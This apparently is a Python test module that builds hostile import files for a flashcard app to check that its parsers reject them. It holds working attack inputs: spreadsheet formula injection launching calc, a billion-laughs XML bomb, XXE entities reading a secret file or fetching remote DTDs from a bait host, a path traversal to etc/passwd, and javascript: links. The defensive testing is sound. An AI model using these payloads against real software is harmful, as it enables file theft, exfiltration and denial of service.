"""Texts, XML and Markdown: rows 28 to 34."""

from collections.abc import Callable
from pathlib import Path

from hostile.cards_of import LOCAL, REMOTE, RUNNING, filled
from hostile.files import Bait, Case, markdown, zipped
from hostile.packages_of import CARD, FACT

FORMULAS = ('=cmd|"/c calc"!A1', "@SUM(1)", "+1+1", "-2+3", "=HYPERLINK(1)", "\t=1", "aman")

_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {c} "{f"&{b};" * 10}">' for b, c in zip("abcdefghi", "bcdefghij", strict=True))
    + "]>"
)


def text(content: bytes | str, name: str = "musuh.txt") -> Callable[[Path, Bait], Path]:
    def make(folder: Path, bait: Bait) -> Path:
        path = folder / name
        path.write_bytes(content if isinstance(content, bytes) else content.encode())
        return path

    return make


def _xml(head: str, word: str) -> Callable[[Path, Bait], Path]:
    def make(folder: Path, bait: Bait) -> Path:
        start = head.format(secret=bait.secret, host=bait.host) if "{secret}" in head else head
        log = FACT.format(n=0).replace("tanya 0", word) + CARD.format(n=0, t=1, x="")
        return zipped(
            folder / "musuh.cards", {"cards.xml": f"{start}<openSM2sync>{log}</openSM2sync>".encode()}
        )

    return make


def _kvtml(head: str) -> Callable[[Path, Bait], Path]:
    def make(folder: Path, bait: Bait) -> Path:
        start = head.format(secret=bait.secret, host=bait.host) if "{secret}" in head else head
        path = folder / "musuh.kvtml"
        path.write_text(
            f"{start}<kvtml version='2.0'><entries><entry id='0'><translation id='0'><text>&j;</text>"
        )
        return path

    return make


def _markdown_of(fields: tuple[str, ...]) -> Callable[[Path, Bait], Path]:
    """HTML, and the same sources as Markdown writes them."""

    def make(folder: Path, bait: Bait) -> Path:
        questions = filled(fields, bait)
        questions += [
            f"kata ![](http://{bait.host}/a.png)",
            f"kata ![](file://{bait.secret})",
            f"kata ![]({bait.secret})",
            f"kata [x](javascript:alert(1)) ![](//{bait.host}/a.png)",
            f"kata <http://{bait.host}/>",
            f"kata ![a][b] [b]: http://{bait.host}/c.png",
            "kata ![](..%2f..%2f..%2fetc/passwd)",
        ]
        return markdown(folder, [" ".join(one.split("\n")).replace("\x00", "") for one in questions])

    return make


def _vault(note: str) -> Callable[[Path, Bait], Path]:
    def make(folder: Path, bait: Bait) -> Path:
        content = note.format(secret=bait.secret, host=bait.host) if "{secret}" in note else note
        return zipped(folder / "vault.zip", {".obsidian/app.json": b"{}", "a.md": content.encode()})

    return make


_XXE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY j SYSTEM "file://{secret}">]>'
_REMOTE_DTD = '<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://{host}/{secret}.dtd">'
_PARAMETER = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % p SYSTEM "http://{host}/{secret}"> %p;]>'
_TEN = "".join(f"a{n}\tb{n}\n" for n in range(10))

CASES: list[Case] = [
    Case(
        28,
        "formulas",
        text(
            "#separator:tab\n#html:false\n"
            + "".join(f'"{f.replace(chr(34), chr(34) * 2)}"\tb\n' for f in FORMULAS)
        ),
        cards=len(FORMULAS),
    ),
    Case(
        29,
        "separator",
        text(
            "#separator:\x00evil\n#columns:"
            + "\t".join("x" * 500)
            + "\n#tags column:99999999999999999999\n#guid column:-1\n"
            + _TEN
        ),
        cards=None,
    ),
    Case(
        29,
        "columns",
        text("#separator:tab\n#notetype column:1\n#deck column:1\n#guid column:1\n#tags column:1\n" + _TEN),
        cards=None,
    ),
    Case(29, "heads-only", text("#separator:tab\n#html:true\n"), cards=0),
    Case(29, "heads-many", text("#html:true\n" * 50_000 + _TEN), cards=None),
    Case(
        29,
        "if-matches",
        text("#separator:tab\n#if matches:'; drop table note\n#match scope:\x1b[2J\n" + _TEN),
        cards=10,
    ),
    Case(
        29,
        "note-type",
        text("#separator:tab\n#notetype:" + "x" * 100_000 + "\n#deck:" + "a::" * 5_000 + "\n" + _TEN),
        cards=10,
    ),
    Case(
        30,
        "bytes",
        text(b"#html:false\n#separator:tab\n" + _TEN.encode() + b"\xc3\x28\xff\xfe\t\x80\n"),
        cards=11,
    ),
    Case(30, "quote", text('#separator:tab\na\tb\nc\t"d\ne\tf\n' + "g\th\n" * 50), "line 3"),
    Case(30, "utf-16", text(b"\xff\xfe" + _TEN.encode("utf-16-le")), cards=10),
    Case(
        30,
        "utf-16-odd",
        text(b"\xff\xfe" + _TEN.encode("utf-16-le") + b"\x00"),
        cards=11,
        listed=("could not be read",),
    ),
    Case(30, "utf-32", text(b"\xff\xfe\x00\x00" + _TEN.encode("utf-32-le")), cards=None),
    Case(30, "zeros", text(b"#separator:tab\n" + b"\x00" * 3_000_000), "no|not a text|cannot|empty"),
    Case(30, "one-line", text(b"#separator:tab\na\tb\n" + b"a" * 20_000_000), cards=1, listed=("",)),
    Case(32, "laughs", _xml(_LAUGHS, "&j;"), "do harm"),
    Case(32, "laughs-kvtml", _kvtml(_LAUGHS), "holds no cards"),
    Case(32, "deep-xml", _xml("", "<f>" * 100_000), "damaged"),
    Case(32, "attributes", _xml("", "<x " + " ".join(f'a{n}="b"' for n in range(50_000)) + "/>"), cards=None),
    Case(33, "xxe", _xml(_XXE, "&j;"), "do harm"),
    Case(33, "xxe-dtd", _xml(_REMOTE_DTD, "kata"), "do harm"),
    Case(33, "xxe-parameter", _xml(_PARAMETER, "kata"), "do harm"),
    Case(33, "xxe-kvtml", _kvtml(_XXE), "holds no cards"),
    Case(33, "encoding", _xml('<?xml version="1.0" encoding="utf-7"?>', "kata"), "damaged"),
    Case(34, "running", _markdown_of(RUNNING), cards=len(RUNNING) + 7),
    Case(34, "remote", _markdown_of(REMOTE), cards=len(REMOTE) + 7),
    Case(34, "local", _markdown_of(LOCAL), cards=len(LOCAL) + 7),
    Case(
        34,
        "obsidian-links",
        _vault("#flashcards\n\nkata ![[{secret}]]::![[../../rahasia.png]] ![](http://{host}/a)\n"),
    ),
    Case(
        34,
        "obsidian-brackets",
        _vault("#flashcards\n\n" + "[" * 20_000 + "::b\n\n" + "==" * 20_000 + "\n\na::b\n"),
        cards=None,
    ),
    Case(34, "obsidian-many", _vault("#flashcards\n\n" + "a\n?\n" * 20_000), cards=None),
    Case(
        34,
        "hashcards",
        text(
            "Q: a\nA: b\n\nQ: c\nA: d\n\nC: " + "[" * 20_000 + "\n\nC: [" + "a] [" * 5_000 + "\n", "musuh.md"
        ),
        cards=None,
    ),
    Case(
        34,
        "head",
        text('---\nname = "M"\n' + "x = " + "[" * 5_000 + "\n---\nQ: a\nA: b\n", "musuh.md"),
        "holds no cards",
    ),
    Case(
        34,
        "head-deep",
        text('---\nname = "M"\ntags = ' + "[" * 900 + "]" * 900 + "\n---\nQ: a\nA: b\n", "musuh.md"),
        "holds no cards",
    ),
]
